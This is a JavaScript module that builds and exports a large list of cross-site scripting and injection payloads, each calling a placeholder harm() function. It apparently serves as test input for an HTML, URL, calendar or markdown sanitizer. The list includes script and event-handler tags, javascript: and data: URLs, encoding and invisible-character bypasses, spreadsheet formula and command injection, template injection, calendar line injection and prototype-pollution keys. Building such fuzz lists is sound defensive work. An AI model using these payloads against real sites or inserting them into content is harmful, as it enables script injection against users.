// Words that try to become more than words: each calls `harm()` where a page lets it. Our own list, by what they are after.

const CALL = 'harm()';

/** Elements that run something when they are made. */
const ELEMENTS = [
  `<script>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script src="data:text/javascript,${CALL}"></script>`,
  `<script type="module">${CALL}</script>`, `<svg><script>${CALL}</script></svg>`, `</script><script>${CALL}</script>`,
  `<img src=x onerror="${CALL}">`, `<img src=x:x onerror=${CALL}//`, `<img/src/onerror=${CALL}>`,
  `<svg onload="${CALL}">`, `<svg/onload=${CALL}>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`, `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<body onload="${CALL}">`, `<body onpageshow=${CALL}>`, `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`, `<details open ontoggle=${CALL}>`, `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}><option>`, `<textarea autofocus onfocus=${CALL}>`, `<video><source onerror="${CALL}"></video>`,
  `<audio src=x onerror=${CALL}>`, `<marquee onstart=${CALL}>`, `<link rel=stylesheet href=x onerror=${CALL}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`, `<base href="javascript:${CALL}//">`,
  `<template><img src=x onerror=${CALL}></template>`, `<div style="animation:x" onanimationstart=${CALL}>`,
  `<a href="javascript:${CALL}" autofocus onfocus=${CALL} tabindex=0>read</a>`, `<form action="javascript:${CALL}"><button autofocus>go`,
  `<style>@import "javascript:${CALL}"; * { background: url(javascript:${CALL}) }</style>`, `<custom-element onclick=${CALL}>`,
  `<nut-graf text="<img src=x onerror=${CALL}>"></nut-graf>`, `<xmp><img src=x onerror=${CALL}></xmp>`, `<noembed><img src=x onerror=${CALL}>`,
];

/** What closes the place where words may stand, and an element behind it. */
const CLOSERS = [
  '">', "'>", '`>', '-->', '--!>', ']]>', '?>', '/>', '</style>', '</title>', '</textarea>', '</noscript>', '</xmp>', '</template>', '</select>',
  '</svg>', '</math>', '</iframe>', '</noembed>', '</noframes>', '</option>', '</table>', '</a>', '</li></ol>', '</nut-graf>',
].flatMap(close => [`<img src=x onerror=${CALL}>`, `<svg onload=${CALL}>`, `<script>${CALL}</script>`].map(element => close + element));

/** One element with whatever it may listen to. */
const HANDLERS = [
  'animationend', 'auxclick', 'beforeinput', 'beforematch', 'blur', 'cancel', 'canplay', 'click', 'close', 'contextmenu', 'copy', 'cuechange',
  'dragstart', 'error', 'focus', 'focusin', 'formdata', 'input', 'invalid', 'keydown', 'load', 'loadstart', 'mouseover', 'paste', 'pointerenter',
  'pointerover', 'resize', 'scroll', 'scrollend', 'securitypolicyviolation', 'selectionchange', 'slotchange', 'submit', 'toggle',
  'transitionend', 'wheel',
].map(event => `<p tabindex=0 contenteditable hidden=until-found on${event}="${CALL}">words</p>`);

/** The same in other clothes: entities, escapes, characters that don't show. */
const DISGUISED = [
  `&lt;img src=x onerror=${CALL}&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `&amp;lt;script&amp;gt;${CALL}`, `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${CALL}\\x3e`, `<\u0000script>${CALL}</script>`,
  `<im\u200bg src=x onerror=${CALL}>`, `\u202e<img src=x onerror=${CALL}>\u202c`, `\ufeff<script>${CALL}</script>`,
  `＜script＞${CALL}＜/script＞`, `<img src=x one\u00adrror=${CALL}>`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  '<img src=x onerror=&#104;arm()>', '<img src=x onerror=\\u0068arm()>', `<a href="&#106;avascript:${CALL}">x</a>`, `<a href="java&#x09;script:${CALL}">x</a>`,
  "<img src=x onerror=eval(atob('aGFybSgp'))>", `<svg><a xlink:href="javascript:${CALL}"><text>x`, `<img src=x\fonerror=${CALL}>`, `<img src=x\ronerror=${CALL}>`,
  `<<script>${CALL}//<</script>`, `<script\n>${CALL}</script\n>`, `<script/x>${CALL}</script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img src=x onerror=${CALL} `,
];

/** Addresses that run. */
export const ADDRESSES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\nscript:${CALL}`, `java\tscript:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`,
  `javascript://example.org/%0a${CALL}`, `javascript&colon;${CALL}`, `vbscript:${CALL}`, `data:text/html,<script>${CALL}</script>`,
  'data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=', `blob:${CALL}`, `view-source:javascript:${CALL}`, `feed:javascript:${CALL}`,
  `https://example.org/"onmouseover="${CALL}`, `https://example.org/'><img src=x onerror=${CALL}>`, `//example.org\\@javascript:${CALL}`,
  'file:///etc/hostname', 'filesystem:x', 'about:blank', 'ftp://example.org/', `https://example.org/)](javascript:${CALL})`,
  ...['livescript', 'mocha', 'jar:javascript', 'x-javascript', 'intent', 'chrome', 'resource', 'moz-extension', 'mhtml', 'ms-its', 'shell', 'tel',
    'mailto', 'sms', 'ws', 'wss', 'urn', 'data:image/svg+xml,<svg onload', 'data:application/xhtml+xml,<script>'].map(scheme => `${scheme}:${CALL}`),
  'https://example.org/>\nBEGIN:VEVENT', 'https://example.org/\r\nX-HARM:1', '__proto__', 'constructor',
];

/** Words that are markup or a line of its own in what is handed out. */
const FORMATS = [
  `[read](javascript:${CALL})`, `![x](x "onerror=${CALL}")`, `<javascript:${CALL}>`, '# A headline of its own', '- a line\n- another',
  `\`\`\`\n<script>${CALL}</script>\n\`\`\``, '**bold** _slanted_ ~~gone~~', '| a | b |\n|---|---|', '[x]: javascript:harm()', '1. first',
  'Vote\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE', 'Vote\nATTACH:javascript:harm()', 'Vote\u2028X-HARM:1', 'Vote\u2029X-HARM:1',
  'Vote\\nX-HARM:1', 'Vote;X-HARM=1:', 'Vote\u0085X-HARM:1', 'Vote\u000bX-HARM:1', '{{constructor.constructor("harm()")()}}', '${harm()}',
  '#{harm()}', '<%= harm() %>', '=HYPERLINK("javascript:harm()")', '@SUM(1)', "+cmd|' /C harm'!A0",
  '-2+3', '\tBEGIN:VEVENT', 'BEGIN:VCALENDAR', '---\ntitle: harm\n---', '<!-- harm -->', '[[harm]]', '~~~\nharm\n~~~', 'harm\\', '"harm", "harm"', '__proto__', 'constructor', 'toString', '$&$`$\'$1',
];

export const PAYLOADS = [...new Set([...ELEMENTS, ...CLOSERS, ...HANDLERS, ...DISGUISED, ...ADDRESSES, ...FORMATS])];
